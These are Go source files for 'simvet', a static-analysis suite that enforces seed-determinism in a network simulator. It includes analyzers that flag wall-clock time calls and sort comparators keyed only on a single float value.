	var diags []Diagnostic
	var sups []simvet.Suppression

	var run func(a *analysis.Analyzer) error
	running := make(map[*analysis.Analyzer]bool)
	run = func(a *analysis.Analyzer) error {
		if _, done := results[a]; done || running[a] {
			return nil
		}
		running[a] = true
		for _, req := range a.Requires {
			if err := run(req); err != nil {
				return err
			}
		}
		pass := &analysis.Pass{
			Analyzer:   a,
			Fset:       fset,
			Files:      files,
			Pkg:        pkg,
			TypesInfo:  info,
			TypesSizes: types.SizesFor("gc", runtime.GOARCH),
			ResultOf:   make(map[*analysis.Analyzer]any),
			ReadFile:   os.ReadFile,
		}
		for _, req := range a.Requires {
			pass.ResultOf[req] = results[req]
		}
		name := a.Name
		pass.Report = func(d analysis.Diagnostic) {
			diags = append(diags, Diagnostic{Pos: fset.Position(d.Pos), Analyzer: name, Message: d.Message})
		}
		out, err := a.Run(pass)
		if err != nil {
			return fmt.Errorf("analyzer %s: %v", a.Name, err)
		}
		results[a] = out
		if s, ok := out.(*simvet.Suppressions); ok && s != nil {
			sups = append(sups, s.List...)
		}
		return nil
	}
	for _, a := range analyzers {
		if err := run(a); err != nil {
			return nil, nil, err
		}
	}
	return diags, sups, nil
}
