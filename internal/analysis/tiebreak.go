package analysis

import (
	"go/ast"
	"go/token"
	"go/types"

	"golang.org/x/tools/go/analysis"
	"golang.org/x/tools/go/analysis/passes/inspect"
	"golang.org/x/tools/go/ast/inspector"
)

// TiebreakAnalyzer flags sort comparators that order by a single float key.
// Floats tie (two APs at the same RSSI, two paths with equal loss), and when
// they do, sort.Slice falls back to the incoming slice order — which, when
// the slice was built from a map or from RNG-jittered arrivals, is not a
// function of the seed. E1's 0 dB row flapped run to run for exactly this
// reason until STA.pickBSS gained a (bssid, channel) secondary key.
var TiebreakAnalyzer = &analysis.Analyzer{
	Name:       "tiebreak",
	Doc:        "flag sort comparators ordering by a single float key with no deterministic secondary key",
	Requires:   []*analysis.Analyzer{inspect.Analyzer},
	ResultType: SuppressionsType,
	Run:        runTiebreak,
}

// sortFuncEntry describes one sort entry point taking a comparator func.
var sortFuncEntries = map[string]map[string]bool{
	"sort":   {"Slice": true, "SliceStable": true, "Search": false},
	"slices": {"SortFunc": true, "SortStableFunc": true},
}

func runTiebreak(pass *analysis.Pass) (any, error) {
	rep := NewReporter(pass)
	insp := pass.ResultOf[inspect.Analyzer].(*inspector.Inspector)
	insp.Preorder([]ast.Node{(*ast.CallExpr)(nil)}, func(n ast.Node) {
		call := n.(*ast.CallExpr)
		sel, ok := call.Fun.(*ast.SelectorExpr)
		if !ok {
			return
		}
		fn, ok := pass.TypesInfo.Uses[sel.Sel].(*types.Func)
		if !ok || fn.Pkg() == nil {
			return
		}
		byPkg, ok := sortFuncEntries[fn.Pkg().Path()]
		if !ok || !byPkg[fn.Name()] || len(call.Args) < 2 {
			return
		}
		cmp, ok := call.Args[len(call.Args)-1].(*ast.FuncLit)
		if !ok {
			return
		}
		if expr := singleFloatCompare(pass, cmp); expr != nil {
			rep.Reportf(cmp, "%s.%s comparator orders by a single float key; equal values fall back to slice order, which is not seed-deterministic — add a secondary key (cf. dot11 pickBSS RSSI tie, DESIGN.md §8)", fn.Pkg().Name(), fn.Name())
		}
	})
	return rep.Finish(), nil
}

// singleFloatCompare reports whether the comparator body is exactly one
// `return a <op> b` whose operands are float-typed, with no secondary
// comparison anywhere. It returns the comparison expression, or nil.
func singleFloatCompare(pass *analysis.Pass, fl *ast.FuncLit) ast.Expr {
	if len(fl.Body.List) != 1 {
		return nil // multi-statement comparators have room for a tiebreak
	}
	ret, ok := fl.Body.List[0].(*ast.ReturnStmt)
	if !ok || len(ret.Results) != 1 {
		return nil
	}
	res := ast.Unparen(ret.Results[0])
	// slices.SortFunc style: `return cmp.Compare(a.f, b.f)` on floats.
	if call, ok := res.(*ast.CallExpr); ok {
		if sel, ok := call.Fun.(*ast.SelectorExpr); ok {
			if fn, ok := pass.TypesInfo.Uses[sel.Sel].(*types.Func); ok &&
				fn.Pkg() != nil && fn.Pkg().Path() == "cmp" && fn.Name() == "Compare" &&
				len(call.Args) == 2 && isFloat(pass.TypesInfo.TypeOf(call.Args[0])) {
				return res
			}
		}
		return nil
	}
	bin, ok := res.(*ast.BinaryExpr)
	if !ok {
		return nil
	}
	switch bin.Op {
	case token.LSS, token.GTR, token.LEQ, token.GEQ:
	default:
		return nil // ||/&& chains carry their own secondary comparison
	}
	if isFloat(pass.TypesInfo.TypeOf(bin.X)) || isFloat(pass.TypesInfo.TypeOf(bin.Y)) {
		return bin
	}
	return nil
}

func isFloat(t types.Type) bool {
	if t == nil {
		return false
	}
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsFloat != 0
}
