package analysis

import (
	"go/ast"
	"go/types"

	"golang.org/x/tools/go/analysis"
	"golang.org/x/tools/go/analysis/passes/inspect"
	"golang.org/x/tools/go/ast/inspector"
)

// bannedTime lists the package time functions that read or wait on the host
// wall clock. time.Duration arithmetic and the type time.Time itself stay
// legal: sim.Time is defined in terms of time.Duration.
var bannedTime = map[string]bool{
	"Now":       true,
	"Since":     true,
	"Until":     true,
	"Sleep":     true,
	"After":     true,
	"AfterFunc": true,
	"Tick":      true,
	"NewTimer":  true,
	"NewTicker": true,
}

// WalltimeAnalyzer forbids wall-clock time in the simulator's deterministic
// core. A single time.Now in protocol code makes a run a function of host
// load instead of the seed, and the digest replay check (check.
// AssertDeterministic) can no longer vouch for an experiment.
var WalltimeAnalyzer = &analysis.Analyzer{
	Name:       "walltime",
	Doc:        "forbid time.Now/Sleep/After and friends in internal simulator packages; use sim.Kernel virtual time",
	Requires:   []*analysis.Analyzer{inspect.Analyzer},
	ResultType: SuppressionsType,
	Run:        runWalltime,
}

func runWalltime(pass *analysis.Pass) (any, error) {
	rep := NewReporter(pass)
	if !deterministicScope(pass.Pkg.Path()) {
		return rep.Finish(), nil
	}
	insp := pass.ResultOf[inspect.Analyzer].(*inspector.Inspector)
	insp.Preorder([]ast.Node{(*ast.SelectorExpr)(nil)}, func(n ast.Node) {
		sel := n.(*ast.SelectorExpr)
		obj := pass.TypesInfo.Uses[sel.Sel]
		if obj == nil || obj.Pkg() == nil || obj.Pkg().Path() != "time" {
			return
		}
		if fn, ok := obj.(*types.Func); !ok || fn.Type().(*types.Signature).Recv() != nil {
			return // methods on time.Time/Duration values are pure
		}
		if !bannedTime[obj.Name()] {
			return
		}
		rep.Reportf(sel, "time.%s reads the host wall clock; simulator code must use the kernel's virtual clock (sim.Kernel.Now/After/At)", obj.Name())
	})
	return rep.Finish(), nil
}
