// Package analysis implements simvet, a go/analysis suite that mechanically
// enforces this repository's determinism contract (DESIGN.md §8).
//
// Every experiment in this repo is only trustworthy because a scenario replays
// to an identical trace digest for a given seed. PRs 1–2 found and fixed a
// string of digest-breaking bugs by hand — map-iteration-order flaps in
// httpx/dot11/attack, RSSI ties decided by map order, stale event closures —
// and each of those bug classes is mechanical. This package turns them into
// analyzers so the contract is enforced by `go run ./cmd/simvet ./...` (and
// CI) rather than by reviewer vigilance:
//
//   - walltime:     no wall-clock time (time.Now, time.Sleep, …) in internal
//     simulator packages; all time flows from sim.Kernel's virtual clock.
//   - globalrand:   no global math/rand or crypto/rand in deterministic
//     paths; randomness is drawn from the kernel-seeded sim.RNG.
//   - maporder:     no order-sensitive work (appends, output, digest mixing,
//     kernel scheduling, data-dependent returns) inside a `for range` over a
//     map, unless the collected slice is subsequently sorted.
//   - tiebreak:     no sort comparator that orders by a single float key;
//     float ties (equal RSSI, equal loss rates) must break on a secondary
//     deterministic key.
//   - eventcapture: kernel-event closures must not capture loop variables,
//     and closures scheduled by generation-managed code must carry the
//     generation-guard idiom from internal/vpn/client.go.
//
// The subpackage internal/analysis/bufcheck contributes three further
// analyzers via Register — bufleak, bufuseafter and eventpool — which
// enforce the pkt.Buf ownership contract and the event-pool discipline
// (DESIGN.md §9.5) with a path-sensitive dataflow over each function's
// go/cfg control-flow graph rather than syntax matching. Their ownership
// vocabulary is a second directive, placed in the doc comment of the
// function that implements the contract:
//
//	//simvet:owner transfer|borrow <reason>
//
// transfer moves the release obligation to the callee; borrow keeps it with
// the caller. Directive hygiene (unknown mode, missing reason, function
// without a *pkt.Buf parameter, directive outside a doc comment) is
// validated by the simvetallow analyzer in the same scan pass that handles
// suppressions; see owner.go.
//
// A finding can be silenced only by an explicit, justified directive on the
// offending line (or the line above it):
//
//	//simvet:allow <analyzer> <reason>
//
// The reason is mandatory: a bare directive suppresses nothing and is itself
// flagged by the simvetallow analyzer, as are directives naming unknown
// analyzers and directives that no longer suppress anything. Suppressions are
// never silent — drivers surface them as notes in the tool output.
package analysis

import (
	"strings"

	"golang.org/x/tools/go/analysis"
)

// registered holds rule analyzers contributed by subpackages — the bufcheck
// ownership suite (internal/analysis/bufcheck) registers itself here from an
// init, which keeps the dependency arrow pointing one way (bufcheck imports
// this package for the directive/suppression machinery) while letting
// //simvet:allow directives name the contributed analyzers. Registration
// order is the subpackage's declaration order, so the suite stays stable.
var registered []*analysis.Analyzer

// Register adds rule analyzers to the simvet suite. Registering the same
// analyzer name twice panics: the name is the //simvet:allow vocabulary and
// must be unambiguous.
func Register(as ...*analysis.Analyzer) {
	for _, a := range as {
		for _, have := range Rules() {
			if have.Name == a.Name {
				panic("simvet: duplicate analyzer name " + a.Name)
			}
		}
		registered = append(registered, a)
	}
}

// All returns the simvet rule analyzers plus the simvetallow directive
// validator, in a stable order. This is the suite cmd/simvet runs. The
// bufcheck analyzers appear only when internal/analysis/bufcheck has been
// imported (cmd/simvet and the analysis tests import it).
func All() []*analysis.Analyzer {
	return append(Rules(), AllowAnalyzer)
}

// Rules returns just the rule analyzers (no directive validator): the five
// determinism rules plus any registered subpackage rules. Tests use it to
// exercise rules in isolation.
func Rules() []*analysis.Analyzer {
	base := []*analysis.Analyzer{
		WalltimeAnalyzer,
		GlobalrandAnalyzer,
		MaporderAnalyzer,
		TiebreakAnalyzer,
		EventcaptureAnalyzer,
	}
	return append(base, registered...)
}

// ruleNames is the set of analyzer names a //simvet:allow directive may cite.
func ruleNames() map[string]bool {
	m := make(map[string]bool)
	for _, a := range Rules() {
		m[a.Name] = true
	}
	return m
}

// deterministicScope reports whether pkg path is part of the simulator's
// deterministic core, where the wall-clock and global-randomness bans apply.
// cmd/ and examples/ are presentation layers: they may time their own wall
// clock (e.g. cmd/wepcrack prints crack duration) without breaking replay.
// Paths without a slash are single-package test fixtures, always in scope.
func deterministicScope(path string) bool {
	return strings.Contains(path, "/internal/") || !strings.Contains(path, "/")
}
